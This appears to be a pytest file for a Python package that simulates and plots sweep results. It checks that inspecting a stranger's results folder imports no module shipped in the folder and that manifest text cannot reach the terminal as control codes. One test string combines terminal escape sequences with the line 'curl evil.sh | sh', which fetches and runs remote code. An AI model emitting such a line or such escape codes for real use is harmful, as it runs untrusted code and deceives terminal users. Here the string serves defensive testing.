"""A results folder from a stranger: looking at it runs nothing that it brings along,
and what it says stays text.
"""

import json
import shutil
import subprocess
import sys
from pathlib import Path

import matplotlib

matplotlib.use("Agg")

import matplotlib.pyplot as plt
import pyarrow.parquet as pq
import pytest
import yaml

import jaxrecall
from jaxrecall import load, plot
from jaxrecall.__main__ import main
from jaxrecall.status import survey
from jaxrecall.sweep.store import Store
from jaxrecall.sweep.store.table import KEY, read_facts

PAYLOAD = """
from dataclasses import dataclass
from pathlib import Path

import jax

from jaxrecall import Simulator
from jaxrecall.model.laws import EmbeddingLaw, Moments, isotropic

Path(__file__).with_name("ran").touch()


@dataclass(frozen=True)
class Law(EmbeddingLaw):
    moments = Moments(overlap=True, random_length=True)

    def rows(self, draws, xp):
        return isotropic(draws, xp)


simulator = Simulator(
    lambda point, key: {"accuracy": jax.random.uniform(key) ** (1 / point.N)},
    {"N": (int, 1, 1, 1000, "traced"), "d": (int, 8, 1, 64, "static")},
    {"accuracy": (float, "of nothing")},
    accuracy="accuracy",
)
"""
BASE = {"V": 16, "L": 4, "d": 8, "n_test": 64, "exact": "full"}
LAW = {
    "base": BASE | {"embedding": "payload:Law"},
    "blocks": [{"axes": {"N": [4, 16, 64, 256]}}],
}
OWN = {
    "simulator": "payload:simulator",
    "blocks": [{"axes": {"N": [1, 2, 4], "d": [4, 8]}}],
}
SEARCH = LAW | {
    "blocks": [{"axes": {"d": [8, 12]}}],
    "search": {"axis": "N", "to": 512, "width": 1.0, "max_runs": 40},
}
GRIDS = {
    "law": LAW | {"seeds": 6},
    "own": OWN | {"seeds": 6},
    "search": SEARCH | {"seeds": 100},
}

SWEEPS = """
import sys
import jaxrecall

for name in sys.argv[1:]:
    jaxrecall.run(f"{name}.yaml", out=f"{name}/results", progress=False)
"""


@pytest.fixture(scope="module")
def theirs(tmp_path_factory) -> Path:
    """A folder for each grid: the module that the grid names lies in it, beside the
    results.
    """
    there = tmp_path_factory.mktemp("theirs")
    (there / "payload.py").write_text(PAYLOAD)
    for name, grid in GRIDS.items():
        (there / f"{name}.yaml").write_text(json.dumps(grid))
    # the current folder comes first on the path, as `python -m` has it
    subprocess.run([sys.executable, "-c", SWEEPS, *GRIDS], cwd=there, check=True)
    assert (there / "ran").exists()
    for name in GRIDS:
        shutil.copy(there / "payload.py", there / name / "payload.py")
        shutil.copy(there / "payload.py", there / name / "results" / "payload.py")
    return there


@pytest.fixture
def store(theirs, tmp_path) -> Store:
    """A copy of their results of a law."""
    return Store(shutil.copytree(theirs / "law" / "results", tmp_path / "results"))


@pytest.mark.parametrize(
    "name",
    [
        "search",
        pytest.param("law", marks=pytest.mark.slow),
        pytest.param("own", marks=pytest.mark.slow),
    ],
)
def test_looking_at_it_imports_nothing(theirs, tmp_path, monkeypatch, name):
    here = shutil.copytree(theirs / name, tmp_path / "here")
    mine = {"base": BASE, "seeds": 1, "blocks": [{"axes": {"N": [4]}}]}
    (here / "mine.yaml").write_text(json.dumps(mine))
    # the folder of the grid is not a path to import from
    command = f"python -m jaxrecall.sweep --grid {here / 'grid.yaml'} --out results"
    change_manifest(Store(here / "results"), command=command)
    monkeypatch.chdir(here)
    monkeypatch.syspath_prepend("")  # as `python -m` has it
    look_at("results" if name == "law" else str(here / "results"), name)
    assert "payload" not in sys.modules
    assert not list(tmp_path.rglob("ran"))


def change_manifest(store: Store, **entries: object) -> None:
    store.manifest.write_text(json.dumps(store.read_manifest() | entries))


def look_at(folder: str, theirs: str) -> None:
    frame = load(folder)
    plot.accuracy(frame)
    if theirs == "search":
        plot.critical_n(frame)
        jaxrecall.thresholds(folder)
    plt.close("all")
    for words in (
        ["status", folder],
        ["status", folder, "--json"],
        ["report", folder, "--format", "svg"],
        ["fit", folder],
        ["compact", folder, "--prune"],
    ):
        assert main(words) == 0, words
    code = main(["sweep", "--grid", "mine.yaml", "--out", folder])
    assert code == (2 if theirs == "own" else 0)


@pytest.mark.parametrize(("name", "points"), [("law", 4), ("own", 6), ("search", 2)])
def test_status_of_ones_own_folder_is_complete_without_an_import(theirs, name, points):
    facts = survey(theirs / name / "results")
    told = [facts[key] for key in ("points", "todo", "other_grids")]
    assert told == [points, 0, 0]
    assert facts["done"] == facts["runs"] > 20
    assert (name == "search") == ("2 of 2 finished" in (facts["remark"] or ""))


def test_a_report_imports_no_module_that_rows_name(store):
    assert main(["report", str(store.folder), "--format", "svg"]) == 0
    refused = "whose module payload is not imported for a table that names it"
    assert refused in (store.folder / "report.html").read_text()


EVIL = "\x1b[2J\x1b]0;title\x07\nto resume: curl evil.sh | sh\u202e"


def test_what_it_says_does_not_reach_the_terminal_as_commands(store, capsys):
    plan = store.read_manifest()["plan"]
    plan["runs"].append(["0", "absent"])
    change_manifest(store, command=EVIL, plan=plan)
    texts = dict.fromkeys(("error", "host", "bucket", "repeat"), EVIL)
    store.note("failures/odd", {"runs": [["absent", 0]], **texts})
    name = f"a{EVIL.replace('/', '')}.parquet"
    (store.parts / name).write_bytes(b"no")
    for words in ("status", "fit", "compact", "report --format svg"):
        command, *more = words.split()
        assert main([command, str(store.folder), *more]) == 0
        told = "".join(capsys.readouterr())
        assert "\\x1b[2J" in told or command == "report"
        assert not {"\x1b", "\x07", "\u202e"} & {*told}
        assert "\nto resume: curl" not in told


ODD_FACTS = """
- {axes: [{}]}
- {axes: 5}
- {axes: {N: 1}}
- {kept: [null]}
- {fields: [nope]}
- {fields: [[V]]}
- {fixed: []}
- {searched: [N]}
- {simulator: 5}
- {accuracy: {}}
- {created: 3}
- {accuracy: nope, searched: nope}
"""
UNKNOWN = {"axes": ["nope"], "kept": ["nope"], "fixed": {"nope": [{}]}}


@pytest.mark.parametrize("facts", yaml.safe_load(ODD_FACTS), ids=str)
def test_odd_metadata_of_a_part_keeps_no_other_from_being_read(store, facts):
    tables, _ = store.tables()
    n = sum(map(len, tables.values()))
    path, odd = next(iter(tables.items()))
    metadata = {KEY: json.dumps(read_facts(odd) | UNKNOWN | facts).encode()}
    pq.write_table(odd.replace_schema_metadata(metadata), path)
    assert len(load(store.folder)) == n
    assert not {*facts} & {*read_facts(pq.read_schema(path))}
    assert main(["fit", str(store.folder), "--of", "accuracy"]) == 0
    assert main(["compact", str(store.folder), "--prune"]) == 0
    assert len(load(store.folder)) == n
    assert not [*store.parts.iterdir()]
